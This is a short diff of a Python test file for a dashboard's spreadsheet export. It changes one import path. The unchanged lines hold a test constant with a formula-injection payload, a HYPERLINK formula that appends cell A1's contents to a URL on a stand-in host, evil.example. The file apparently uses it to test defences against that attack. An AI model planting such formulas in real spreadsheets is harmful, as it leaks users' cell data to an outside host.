@@ -8,7 +8,7 @@ import pytest
 from openpyxl import load_workbook
 
 from dashboard import export, sources_view
-from dashboard.i18n import translator
+from dashboard.text.i18n import translator
 
 MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
